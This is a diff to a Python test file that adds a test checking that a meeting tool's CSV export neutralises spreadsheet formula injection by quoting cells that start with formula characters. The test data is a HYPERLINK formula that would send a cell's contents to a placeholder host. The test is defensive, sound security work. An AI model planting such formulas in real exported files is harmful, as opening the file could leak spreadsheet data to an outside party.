@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 from datetime import date, timedelta
 from pathlib import Path
@@ -12,6 +14,7 @@ from helpers import NOW, debriefed_meeting
 
 from prep.cli import main
 from prep.model.meeting import FollowUp
+from prep.reports.export import export_csv
 from prep.reports.inert import CONTROLS, inert
 from prep.storage import Store
 
@@ -155,4 +158,18 @@ def test_checklist_text_is_listed_and_validated_inert(
     code, out, err = run(capsys, "checklists", "validate", str(team))
     assert code == 1
     assert acted_on(out + err) == [] and "sec\\x1b[2Jtions\\nx" in out
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"], ids=["equals", "plus", "minus", "at", "tab", "cr"])
+def test_no_csv_cell_starts_a_formula(db_path: Path, start: str) -> None:
+    formula = f'{start}HYPERLINK("https://example.invalid/?leak="&A1;"Open")'
+    meeting = debriefed_meeting(formula, 2, outcome=formula, followups=[FollowUp(text=formula, due=NOW.date())])
+    meeting.contact, meeting.goal = formula, formula
+    meeting.checklist = msgspec.structs.replace(meeting.checklist, title=formula)
+    store = Store(db_path)
+    store.save(meeting)
+    header, row = csv.reader(io.StringIO(export_csv(store, None)))
+    cells = dict(zip(header, row))
+    for column in ("customer", "contact", "goal", "checklist", "outcome", "open_followups"):
+        assert cells[column].startswith("'" + formula), column  # the text itself is kept, after the quote
+    assert not [cell for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
 
